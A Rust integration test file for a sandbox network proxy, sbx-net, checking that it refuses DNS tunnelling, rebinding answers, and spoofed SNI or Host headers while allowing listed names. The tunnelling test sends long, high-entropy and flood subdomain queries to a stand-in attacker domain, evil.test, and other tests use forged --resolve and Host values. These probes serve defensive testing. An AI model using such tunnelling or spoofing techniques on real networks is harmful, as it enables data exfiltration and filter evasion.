//! sbx-net's DNS and name-based allowlist against the test network: an
//! upstream dnsmasq serving the test zone, web hosts A (allowed) and B
//! (denied), an attacker's DNS behind the upstream for evil.test.

mod common;

use sbx_testutil::{assert_event, identities, stderr, stdout};

fn marker(out: &str, key: &str) -> Vec<String> {
    out.lines()
        .filter_map(|l| l.strip_prefix(&format!("{key}=")))
        .map(str::to_string)
        .collect()
}

fn one(out: &str, key: &str) -> String {
    let v = marker(out, key);
    assert_eq!(v.len(), 1, "{key} in {out}");
    v[0].clone()
}

#[test]
fn allowed_name_and_port_work_everything_else_fails() {
    let w = world_or_skip!();
    let (a, b) = (w.a.ip, w.b.ip);
    for who in identities() {
        let (d, log) = common::World::audit_dir();
        let dnsq = common::World::dnsq(d.path());
        let script = format!(
            "{dnsq} 10.254.0.1 A alias-of-a.test | sed 's/^/ALIAS_DNS=/'; \
             curl -sS -m5 -o /dev/null http://{a}/ 2>/dev/null; echo DIRECT_BEFORE=$?; \
             curl -sS -m5 http://allowed.test/; echo A80=$?; \
             curl -sS -m5 -o /dev/null http://allowed.test:8080/ 2>/dev/null; echo A8080=$?; \
             curl -sS -m5 -o /dev/null http://denied.test/ 2>/dev/null; echo DENIED=$?; \
             curl -sS -m5 -o /dev/null http://{b}/ 2>/dev/null; echo B_DIRECT=$?; \
             curl -sS -m5 -o /dev/null http://alias-of-a.test/ 2>/dev/null; echo ALIAS=$?; \
             t=$(mktemp -d); git clone -q http://allowed.test/repo.git $t/r && cat $t/r/README; echo GIT=$?; \
             HOME=$t PIP_DISABLE_PIP_VERSION_CHECK=1 {py} -m pip download -q --no-cache-dir --no-deps \
               --index-url http://allowed.test/simple/ --trusted-host allowed.test -d $t/dl sbxdemo 2>&1 | tail -3; ls $t/dl; echo PIP=$?; \
             {py} -c 'import urllib.request; print(urllib.request.urlopen(\"http://allowed.test/\", timeout=5).read().decode().strip())'; echo URLLIB=$?; \
             rm -rf $t",
            py = common::PY
        );
        let out = w.sbx_net(
            who,
            &log,
            &[
                "--allow=allowed.test".into(),
                "--dns-rebind-allow=allowed.test".into(),
            ],
            &script,
        );
        let so = stdout(&out);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{who:?}: {so}\n{}",
            stderr(&out)
        );
        // A name not allowlisted is refused by the proxy.
        assert!(one(&so, "ALIAS_DNS").contains("REFUSED"), "{so}");
        // The allowed host's address is not reachable before the allowed
        // name resolved to it.
        assert_ne!(one(&so, "DIRECT_BEFORE"), "0", "{so}");
        assert_eq!(one(&so, "A80"), "0", "{so}");
        assert!(so.contains("hello from A"), "{so}");
        assert_ne!(one(&so, "A8080"), "0", "allowed name on another port: {so}");
        assert_eq!(
            one(&so, "DENIED"),
            "6",
            "denied name must fail at DNS (curl 6): {so}"
        );
        assert_ne!(
            one(&so, "B_DIRECT"),
            "0",
            "direct connection to a denied IP: {so}"
        );
        assert_eq!(
            one(&so, "ALIAS"),
            "6",
            "allowed IP through a denied name: {so}"
        );
        assert!(so.contains("repo over dumb http"), "git clone: {so}");
        assert_eq!(one(&so, "GIT"), "0", "{so}");
        assert!(
            so.contains("sbxdemo-1.0-py3-none-any.whl"),
            "pip download: {so}"
        );
        assert_eq!(one(&so, "PIP"), "0", "{so}");
        assert_eq!(one(&so, "URLLIB"), "0", "{so}");

        let (a_s, b_s) = (a.to_string(), b.to_string());
        assert_event(&log, "dns_refused", "alert", |e| {
            e["name"] == "denied.test" && e["reason"] == "not_allowlisted"
        });
        assert_event(&log, "dns_refused", "alert", |e| {
            e["name"] == "alias-of-a.test"
        });
        let a6 = w.a.ip6.to_string();
        let is_a = |e: &serde_json::Value| e["dst"] == a_s.as_str() || e["dst"] == a6.as_str();
        assert_event(&log, "net_denied", "alert", |e| {
            is_a(e) && e["port"] == 8080 && e["reason"] == "port not allowed for this name"
        });
        assert_event(&log, "net_denied", "alert", |e| {
            e["dst"] == b_s.as_str() && e["port"] == 80
        });
        assert_event(&log, "net_denied", "alert", |e| {
            e["dst"] == a_s.as_str() && e["port"] == 80
        });
        // Over IPv4 or IPv6: allowed.test has both (clients prefer AAAA).
        assert_event(&log, "net_allowed", "info", |e| {
            is_a(e) && e["port"] == 80 && e["via"] == "name allowed.test"
        });
    }
    // Never forwarded upstream: the upstream never saw the denied names.
    assert!(
        w.upstream_saw("allowed.test"),
        "the upstream was not asked at all"
    );
    assert!(
        !w.upstream_saw("denied.test"),
        "a refused name reached the upstream"
    );
    assert!(
        !w.upstream_saw("alias-of-a.test"),
        "a refused name reached the upstream"
    );
}

#[test]
fn dns_tunnelling_is_refused_alerted_and_never_reaches_the_attacker() {
    let w = world_or_skip!();
    for who in identities() {
        let (d, log) = common::World::audit_dir();
        let dnsq = common::World::dnsq(d.path());
        let tag = format!(
            "{}{}",
            if who == sbx_testutil::As::Root {
                "r"
            } else {
                "u"
            },
            std::process::id()
        );
        // A label too long, a high-entropy label, a TXT query, and a flood
        // of distinct names under an allowed wildcard.
        let long = format!("{tag}{}", "a".repeat(50));
        let entropic = format!("{tag}Xq7Zp2Lk9Rv4Tb8Nw3Yc6Hm1Jd5Fg0Se");
        let flood: Vec<String> = (0..130).map(|i| format!("f{tag}n{i}.evil.test")).collect();
        let script = format!(
            "{dnsq} 9.9.9.9 A ok{tag}.evil.test | sed 's/^/PLAIN=/'; \
             {dnsq} 9.9.9.9 A {long}.evil.test | sed 's/^/LONG=/'; \
             {dnsq} 9.9.9.9 A {entropic}.evil.test | sed 's/^/ENTROPY=/'; \
             {dnsq} 9.9.9.9 TXT allowed.test | sed 's/^/TXT=/'; \
             {dnsq} 9.9.9.9 ANY allowed.test | sed 's/^/ANY=/'; \
             {dnsq} 9.9.9.9 A {flood} | sed 's/^/FLOOD=/'",
            flood = flood.join(" ")
        );
        let out = w.sbx_net(
            who,
            &log,
            &[
                "--allow=*.evil.test".into(),
                "--allow=allowed.test".into(),
                "--dns-rebind-allow=test".into(),
            ],
            &script,
        );
        let so = stdout(&out);
        assert_eq!(out.status.code(), Some(0), "{so}\n{}", stderr(&out));
        // A plain name under the wildcard is forwarded (so the channel to
        // the attacker exists, and the refusals below mean something).
        assert!(one(&so, "PLAIN").contains("NOERROR"), "{so}");
        assert!(
            w.attacker_saw(&format!("ok{tag}.evil.test")),
            "the attacker's DNS is not reachable"
        );
        for k in ["LONG", "ENTROPY", "TXT", "ANY"] {
            let v = one(&so, k);
            assert!(v.contains("REFUSED") || v.contains("TIMEOUT"), "{k}: {v}");
        }
        let flood_out = marker(&so, "FLOOD");
        let refused = flood_out.iter().filter(|l| !l.contains("NOERROR")).count();
        assert!(
            refused >= 20,
            "the flood of distinct subdomains went through: {flood_out:?}"
        );
        assert!(!w.attacker_saw(&long), "a long label reached the attacker");
        assert!(
            !w.attacker_saw(&entropic),
            "a high-entropy label reached the attacker"
        );
        for r in [
            "tunnel_label_length",
            "tunnel_entropy",
            "qtype",
            "tunnel_subdomain_rate",
        ] {
            assert_event(&log, "dns_refused", "alert", |e| e["reason"] == r);
        }
        let seen = flood.iter().filter(|n| w.attacker_saw(n)).count();
        assert!(seen <= 100, "{seen} flood names reached the attacker");
    }
}

#[test]
fn rebinding_answers_are_refused() {
    let w = world_or_skip!();
    for who in identities() {
        let (d, log) = common::World::audit_dir();
        let dnsq = common::World::dnsq(d.path());
        let script = format!(
            "{dnsq} 10.254.0.1 A rebind.test | sed 's/^/R1=/'; \
             {dnsq} 10.254.0.1 A rebind2.test | sed 's/^/R2=/'; \
             curl -sS -m5 -o /dev/null http://rebind2.test/ 2>/dev/null; echo CURL=$?"
        );
        // The names come from an allow file this time.
        let file = d.path().join("allow.txt");
        std::fs::write(
            &file,
            "# rebinding probes\nrebind.test:80\nrebind2.test  # private answer\n",
        )
        .unwrap();
        sbx_testutil::chown_to_test_user(&file);
        let out = w.sbx_net(
            who,
            &log,
            &[format!("--allow-file={}", file.display())],
            &script,
        );
        let so = stdout(&out);
        assert_eq!(out.status.code(), Some(0), "{so}\n{}", stderr(&out));
        for k in ["R1", "R2"] {
            let v = one(&so, k);
            assert!(
                !v.contains("NOERROR 1"),
                "{k}: rebinding answer passed: {v}"
            );
            assert!(
                !v.contains("127.0.0.1") && !v.contains(&w.a.ip.to_string()),
                "{k}: {v}"
            );
        }
        assert_ne!(one(&so, "CURL"), "0", "{so}");
        assert_event(&log, "dns_refused", "alert", |e| {
            e["name"] == "rebind.test" && e["reason"] == "rebinding"
        });
        assert_event(&log, "dns_refused", "alert", |e| {
            e["name"] == "rebind2.test" && e["reason"] == "rebinding"
        });
    }
}

#[test]
fn dns_is_redirected_whatever_the_server_over_udp_and_tcp_v4_and_v6() {
    let w = world_or_skip!();
    let a = w.a.ip.to_string();
    for who in identities() {
        let (_d, log) = common::World::audit_dir();
        let script = "dig +short +tries=1 +time=3 @192.0.2.53 allowed.test | sed 's/^/UDP4=/'; \
             dig +short +tcp +tries=1 +time=3 @192.0.2.53 allowed.test | sed 's/^/TCP4=/'; \
             dig +short +tries=1 +time=3 @2001:db8::53 allowed.test | sed 's/^/UDP6=/'; \
             dig +short +tcp +tries=1 +time=3 @2001:db8::53 allowed.test AAAA | sed 's/^/TCP6=/'; \
             dig +short +tries=1 +time=3 @127.0.0.53 allowed.test | sed 's/^/LOOP=/'; \
             dig +short +tcp +tries=1 +time=3 @::1 allowed.test | sed 's/^/LOOPTCP=/'";
        let out = w.sbx_net(
            who,
            &log,
            &[
                "--allow=allowed.test".into(),
                "--dns-rebind-allow=allowed.test".into(),
            ],
            script,
        );
        let so = stdout(&out);
        assert_eq!(out.status.code(), Some(0), "{so}\n{}", stderr(&out));
        assert_eq!(marker(&so, "UDP4"), vec![a.as_str()], "{so}");
        assert_eq!(marker(&so, "TCP4"), vec![a.as_str()], "{so}");
        assert_eq!(marker(&so, "UDP6"), vec![a.as_str()], "{so}");
        assert_eq!(marker(&so, "TCP6"), [w.a.ip6.to_string()], "{so}");
        // A loopback resolver (systemd-resolved's 127.0.0.53) is answered too.
        assert_eq!(marker(&so, "LOOP"), vec![a.as_str()], "{so}");
        assert_eq!(marker(&so, "LOOPTCP"), vec![a.as_str()], "{so}");
        let end = assert_event(&log, "net_end", "info", |_| true);
        assert!(end["dns_queries"].as_u64().unwrap() >= 6, "{end}");
    }
}

#[test]
fn sni_check_stops_a_denied_name_on_an_allowed_address() {
    let w = world_or_skip!();
    let a = w.a.ip;
    for who in identities() {
        let (_d, log) = common::World::audit_dir();
        let script = format!(
            "curl -sSk -m5 https://allowed.test/ | grep -c s_server | sed 's/^/TLS_OK=/'; \
             curl -sSk -m5 -o /dev/null --resolve denied.test:443:{a} https://denied.test/ 2>/dev/null; echo TLS_DENIED=$?; \
             curl -sS -m5 -o /dev/null http://allowed.test/; echo HTTP_OK=$?; \
             curl -sS -m5 -o /dev/null -H 'Host: denied.test' http://allowed.test/ 2>/dev/null; echo HOST_DENIED=$?; \
             curl -sS -m5 -o /dev/null --resolve alias-of-a.test:80:{a} http://alias-of-a.test/ 2>/dev/null; echo ALIAS=$?"
        );
        let out = w.sbx_net(
            who,
            &log,
            &[
                "--sni-check".into(),
                "--allow=allowed.test".into(),
                "--dns-rebind-allow=allowed.test".into(),
            ],
            &script,
        );
        let so = stdout(&out);
        assert_eq!(out.status.code(), Some(0), "{so}\n{}", stderr(&out));
        assert_ne!(one(&so, "TLS_OK"), "0", "TLS to the allowed name: {so}");
        assert_ne!(
            one(&so, "TLS_DENIED"),
            "0",
            "SNI of a denied name went through: {so}"
        );
        assert_eq!(one(&so, "HTTP_OK"), "0", "{so}");
        assert_ne!(
            one(&so, "HOST_DENIED"),
            "0",
            "Host of a denied name went through: {so}"
        );
        assert_ne!(one(&so, "ALIAS"), "0", "{so}");
        let a_s = a.to_string();
        assert_event(&log, "net_denied", "alert", |e| {
            e["dst"] == a_s.as_str() && e["port"] == 443 && e["claimed_name"] == "denied.test"
        });
        assert_event(&log, "net_denied", "alert", |e| {
            e["port"] == 80 && e["claimed_name"] == "denied.test"
        });
    }
}

#[test]
fn an_upstream_that_does_not_answer_gives_servfail_not_a_hang() {
    let w = world_or_skip!();
    for who in identities() {
        let (d, log) = common::World::audit_dir();
        let dnsq = common::World::dnsq(d.path());
        // Host B runs no DNS server: every forwarded query times out.
        let mut c = sbx_testutil::tool("sbx-net");
        c.arg("--audit-log").arg(&log);
        c.arg(format!("--dns-upstream={}", w.b.ip));
        c.args(["--allow=allowed.test", "--", "/bin/sh", "-c"]);
        c.arg(format!(
            "DNSQ_WAIT=8 {dnsq} 10.254.0.1 A allowed.test | sed 's/^/Q=/'"
        ));
        c.env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
            .current_dir("/");
        sbx_testutil::run_as(&mut c, who);
        let out = c.output().unwrap();
        let so = stdout(&out);
        assert_eq!(out.status.code(), Some(0), "{so}\n{}", stderr(&out));
        // The proxy gives up after its query timeout (4 s) with SERVFAIL.
        assert!(one(&so, "Q").contains("SERVFAIL"), "{so}");
        assert_event(&log, "dns_upstream_failed", "warn", |e| {
            e["name"] == "allowed.test"
        });
    }
}
